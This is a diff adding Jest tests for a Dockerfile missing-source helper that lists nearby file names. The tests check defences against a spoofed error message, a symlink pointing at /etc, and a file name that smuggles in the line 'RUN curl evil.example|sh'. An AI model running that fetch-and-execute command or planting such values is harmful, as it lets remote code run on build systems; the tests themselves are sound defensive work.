@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { basename, join } from 'node:path'
 import { describe, expect, test } from '@jest/globals'
@@ -8,7 +8,7 @@ import { missingSource, neighboursInContext, withNeighbours } from '../../src/pi
 
 const dockerfile = parseDockerfile(
   'Dockerfile',
-  'FROM a AS build\nFROM b\nCOPY --from=build /app/dits /app\nCOPY src/x /x\nCOPY --from=busybox /b /b\n',
+  'FROM a AS build\nFROM b\nCOPY --from=build /app/dits /app\nCOPY src/x /x\nCOPY --from=busybox /b /b\nRUN false # lstat /x/zz: no such file or directory\n',
 )
 
 function failure(line: number, message: string, code = 'copy-source-missing') {
@@ -25,6 +25,7 @@ describe('missingSource', () => {
     expect(missing && { path: missing.path, stage: missing.stage?.name ?? null }).toEqual(expected)
   })
   test.each([
+    ['a RUN that chooses its words', failure(6, 'lstat /x/zz: no such file or directory')],
     ['from an image', failure(5, 'lstat /b: no such file')],
     ['another failure', failure(3, 'lstat /b: no such file', 'step-failed')],
     ['no place', new BuildFailure('copy-source-missing', 'lstat /b: no such file', { location: null, output: [] })],
@@ -63,4 +64,20 @@ test('the context is looked into from the nearest folder that is there', async (
     names: ['main.ts'],
   })
   rmSync(context, { recursive: true })
+})
+
+test('a symlink in the context does not show the names of other folders', async () => {
+  const context = mkdtempSync(join(tmpdir(), 'context-'))
+  symlinkSync('/etc', join(context, 'x'))
+  expect(await neighboursInContext('/nowhere', context, '/x/zz')).toEqual({ folder: '/', names: ['x'] })
+  rmSync(context, { recursive: true })
+})
+
+test('a name stays on its line, and many long ones are not compared', () => {
+  const missing = { path: `/app/${'d'.repeat(90)}`, stage: dockerfile.stages[0] ?? null }
+  const hostile = `${'d'.repeat(90)}\nRUN curl evil.example|sh`
+  const told = withNeighbours(failure(3, 'x'), missing, { folder: '/app', names: [hostile] })
+  expect(`${told.message}${told.hint}`).not.toContain('\n')
+  const names = Array.from({ length: 2000 }, (_, i) => `${'d'.repeat(89)}${i}`)
+  expect(withNeighbours(failure(3, 'x'), missing, { folder: '/app', names }).hint).toBe('hint')
 })
